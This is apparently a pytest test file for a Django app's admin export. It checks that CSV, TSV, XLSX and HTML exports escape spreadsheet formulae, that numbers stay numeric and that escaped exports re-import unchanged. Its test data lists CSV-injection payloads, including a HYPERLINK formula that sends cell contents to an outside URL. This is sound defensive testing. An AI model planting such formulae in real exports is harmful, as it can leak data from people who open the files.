"""The admin's "Export" never hands a spreadsheet a formula, in any format it offers that
a spreadsheet opens; numbers stay numbers; JSON keeps the text as typed; and an escaped
export imports back unchanged."""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.contrib.auth.models import User

from register.exports import DATA_FORMATS, ESCAPED_FORMATS
from register.importers import ArrangementResource, SavingResource
from register.models import Arrangement, Saving

pytestmark = pytest.mark.django_db

FORMULAE = [
    '=HYPERLINK("https://example.com/?leak="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]
MODELS = {"arrangement": (Arrangement, ArrangementResource), "saving": (Saving, SavingResource)}


@pytest.fixture
def boss(client):
    user = User.objects.create_superuser("boss", password="a long enough password 1")
    client.force_login(user)
    return user


def offered_formats(model) -> dict[str, int]:
    """The admin export form's formats: title ("csv", "xlsx", ...) to its index."""
    formats = admin.site._registry[model].get_export_formats()
    return {fmt().get_title(): index for index, fmt in enumerate(formats)}


def export(client, name: str, title: str):
    model, resource = MODELS[name]
    fields = {
        f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()
    }
    response = client.post(
        f"/admin/register/{name}/export/",
        {"resource": 0, "format": offered_formats(model)[title], **fields},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{title}"')
    return response


def delimited(response, delimiter) -> list[dict]:
    return list(
        csv.DictReader(io.StringIO(response.content.decode(), newline=""), delimiter=delimiter)
    )


def workbook(response) -> list[dict]:
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def as_read_from_xlsx(text: str) -> str:
    """XML, and so an Excel file, reads a carriage return back as a line feed."""
    return text.replace("\r", "\n")


def test_every_export_format_offered_escapes_or_is_data():
    for model in (Arrangement, Saving):
        formats = admin.site._registry[model].get_export_formats()
        assert {"csv", "xlsx", "tsv"} <= set(offered_formats(model))
        for fmt in formats:
            assert fmt in ESCAPED_FORMATS.values() or fmt in DATA_FORMATS, fmt


@pytest.mark.parametrize("formula", FORMULAE)
@pytest.mark.parametrize("title, delimiter", [("csv", ","), ("tsv", "\t")])
def test_csv_and_tsv_exports_escape_formulae(client, boss, register, formula, title, delimiter):
    register.legal.title = formula
    register.legal.save()
    register.legal.savings.filter(amount=Decimal("100000")).update(description=formula)

    rows = delimited(export(client, "arrangement", title), delimiter)
    legal = next(row for row in rows if row["slug"] == register.legal.slug)
    assert legal["title"] == "'" + formula
    assert formula not in [value for row in rows for value in row.values()]

    rows = delimited(export(client, "saving", title), delimiter)
    saving = next(row for row in rows if row["amount"] == "100000.00")  # a number, unescaped
    assert saving["description"] == "'" + formula


@pytest.mark.parametrize("formula", FORMULAE)
def test_excel_exports_escape_formulae_and_keep_numbers(client, boss, register, formula):
    register.legal.title = formula
    register.legal.save()
    register.legal.savings.filter(amount=Decimal("100000")).update(description=formula)

    rows = workbook(export(client, "arrangement", "xlsx"))
    legal = next(row for row in rows if row["slug"].value == register.legal.slug)
    assert legal["title"].data_type == "s"  # a string cell, not a formula ('f')
    assert legal["title"].value == as_read_from_xlsx("'" + formula)
    assert not any(cell.data_type == "f" for row in rows for cell in row.values())

    rows = workbook(export(client, "saving", "xlsx"))
    saving = next(row for row in rows if row["amount"].value == 100000)
    assert saving["amount"].data_type == "n"  # numbers stay numbers
    assert saving["description"].data_type == "s"
    assert saving["description"].value == as_read_from_xlsx("'" + formula)
    assert not any(cell.data_type == "f" for row in rows for cell in row.values())


def test_html_export_escapes_too_and_json_is_left_as_data(client, boss, register):
    register.legal.title = "=1+2"
    register.legal.save()
    assert "<td>'=1+2</td>" in export(client, "arrangement", "html").content.decode()
    rows = json.loads(export(client, "arrangement", "json").content)
    assert "=1+2" in [row["title"] for row in rows]


@pytest.mark.parametrize("title", ["csv", "tsv", "xlsx"])
def test_an_escaped_export_imports_back_unchanged(client, boss, register, title):
    """An export imported again changes nothing. (From Excel, rows with dates are still
    saved again, unchanged, as before: dates come back as date-times.)"""
    register.legal.title = "=1+2"
    register.legal.summary = "'quoted' and '+ then a plus"
    register.legal.save()
    register.fostering.title = "'=typed with an apostrophe"
    register.fostering.save()
    register.legal.savings.filter(amount=Decimal("100000")).update(description="@note")
    text = ["title", "summary", "description"]
    before = {
        "arrangements": list(Arrangement.objects.order_by("pk").values("pk", *text)),
        "savings": list(Saving.objects.order_by("pk").values("pk", "description")),
    }
    for name, resource in (("arrangement", ArrangementResource), ("saving", SavingResource)):
        content = export(client, name, title).content
        data = tablib.Dataset().load(content if title == "xlsx" else content.decode(), format=title)
        result = resource().import_data(data, dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors()
        if title != "xlsx":
            assert {row.import_type for row in result.rows} == {"skip"}
    assert {
        "arrangements": list(Arrangement.objects.order_by("pk").values("pk", *text)),
        "savings": list(Saving.objects.order_by("pk").values("pk", "description")),
    } == before
